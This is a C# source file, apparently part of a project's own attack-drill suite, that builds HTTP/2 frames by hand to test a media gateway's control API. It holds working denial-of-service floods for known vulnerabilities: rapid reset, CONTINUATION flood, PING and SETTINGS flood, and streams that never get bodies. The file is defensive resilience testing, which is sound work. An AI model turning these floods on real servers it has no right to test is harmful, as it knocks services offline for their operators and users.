using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;
using MediaGateway.Attack.Running;
using MediaGateway.Attack.Senders;

namespace MediaGateway.Attack.Drills;

/// <summary>
/// HTTP/2 as frames by hand (RFC 9113): at the listener of the control API, whose clients know that it speaks HTTP/2, and over TLS, where
/// clients choose it, at the public one.
/// </summary>
internal static class Http2Drills
{
    private const string Threat = "Calls without the right to them";

    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte Ping = 6;
    private const byte Continuation = 9;
    private const byte EndHeaders = 4;

    private static readonly TimeSpan EndLimit = TimeSpan.FromSeconds(2);

    public static IReadOnlyList<Drill> List => Over("HTTP/2", "/mediagateway.v1.NodeService/GetNode", Confines.None, async attack =>
    {
        Socket socket = await AttackClient.ConnectAsync(OngoingAttack.NextAddress(), attack.Site.Server.ControlAddress);
        return new NetworkStream(socket, ownsSocket: true);
    });

    /// <summary>The drills of HTTP/2 over connections of some kind.</summary>
    /// <param name="protocol">Its name in the table.</param>
    /// <param name="path">A path that is served there.</param>
    /// <param name="confines">The gateway that is attacked.</param>
    /// <param name="connect">Opens a connection.</param>
    public static IReadOnlyList<Drill> Over(string protocol, string path, Confines confines, Func<OngoingAttack, Task<Stream>> connect) =>
    [
        // CVE-2023-44487: each stream is cancelled as soon as it is asked for.
        new(protocol + " rapid reset", Threat, attack => FloodAsync(attack, connect, (number, frames) =>
        {
            Write(frames, Headers, EndHeaders, StreamOf(number), Call(path));
            Write(frames, Reset, 0, StreamOf(number), [0, 0, 0, 8]);
        })) { Confines = confines },
        // CVE-2024-27983 and others: headers that never end.
        new(protocol + " CONTINUATION flood", Threat, attack => FloodAsync(attack, connect, (number, frames) =>
        {
            if (number == 0)
                Write(frames, Headers, 0, 1, Call(path));
            Write(frames, Continuation, 0, 1, Literal("x-" + number, new string('a', 1000)));
        })) { Confines = confines },
        // CVE-2019-9512 and CVE-2019-9515: each of these is to be answered, and nobody reads the answers.
        new(protocol + " PING and SETTINGS flood", Threat, attack => FloodAsync(attack, connect, (number, frames) =>
        {
            Write(frames, Ping, 0, 0, new byte[8]);
            Write(frames, Settings, 0, 0, []);
        }, mustEnd: false)) { Confines = confines },
        // Requests whose bodies never come.
        new(protocol + " streams without number", Threat, attack => FloodAsync(attack, connect, (number, frames) =>
            Write(frames, Headers, EndHeaders, StreamOf(number), Call(path)), mustEnd: false)) { Confines = confines },
    ];

    private static int StreamOf(int number) => (2 * number) + 1;

    /// <summary>Connections that write such frames, and begin anew when the gateway has ended them.</summary>
    private static async Task FloodAsync(
        OngoingAttack attack, Func<OngoingAttack, Task<Stream>> connect, Action<int, List<byte>> write, bool mustEnd = true)
    {
        const int Connections = 4;
        const int Batch = 20;
        int ended = 0;
        await Task.WhenAll(Enumerable.Range(0, Connections).Select(_ => Task.Run(async () =>
        {
            while (attack.GoesOn(ended > 0 || !mustEnd))
            {
                await using Stream stream = await connect(attack);
                List<byte> frames = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8];
                Write(frames, Settings, 0, 0, []);
                int number = 0;
                bool isOpen = true;
                while (isOpen && attack.GoesOn(ended > 0 || !mustEnd))
                {
                    for (int i = 0; i < Batch; i++)
                        write(number++, frames);
                    using var limit = new CancellationTokenSource(EndLimit);
                    try
                    {
                        await stream.WriteAsync(frames.ToArray(), limit.Token);
                    }
                    catch (Exception end) when (end is IOException or OperationCanceledException)
                    {
                        isOpen = false;
                    }
                    frames.Clear();
                    attack.Count(Batch);
                    await Task.Yield();
                }
                if (!isOpen)
                    Interlocked.Increment(ref ended);
            }
        })));
        attack.Load = $"{attack.Number} times of {Connections} clients, {ended} connections ended by the gateway";
        attack.Require(ended > 0 || !mustEnd, "the gateway ended no connection");
    }

    /// <summary>A frame: RFC 9113 section 4.1.</summary>
    private static void Write(List<byte> frames, byte type, byte flags, int stream, byte[] payload)
    {
        Span<byte> header = stackalloc byte[9];
        BinaryPrimitives.WriteInt32BigEndian(header, payload.Length << 8);
        header[3] = type;
        header[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(header[5..], stream);
        frames.AddRange(header);
        frames.AddRange(payload);
    }

    /// <summary>The headers of a call of gRPC: POST, http and literals (RFC 7541 sections 6.1 and 6.2.2).</summary>
    private static byte[] Call(string path) =>
        [0x83, 0x86, .. Literal(":path", path), .. Literal(":authority", "gateway"), .. Literal("content-type", "application/grpc"),
            .. Literal("te", "trailers")];

    private static byte[] Literal(string name, string value) => [0x00, .. Text(name), .. Text(value)];

    /// <summary>A string without Huffman coding, its length with a prefix of seven bits (RFC 7541 sections 5.1 and 5.2).</summary>
    private static byte[] Text(string text)
    {
        List<byte> bytes = [];
        int length = text.Length;
        if (length < 127)
        {
            bytes.Add((byte)length);
        }
        else
        {
            bytes.Add(127);
            for (length -= 127; length >= 128; length /= 128)
                bytes.Add((byte)((length % 128) + 128));
            bytes.Add((byte)length);
        }
        bytes.AddRange(Encoding.ASCII.GetBytes(text));
        return [.. bytes];
    }
}
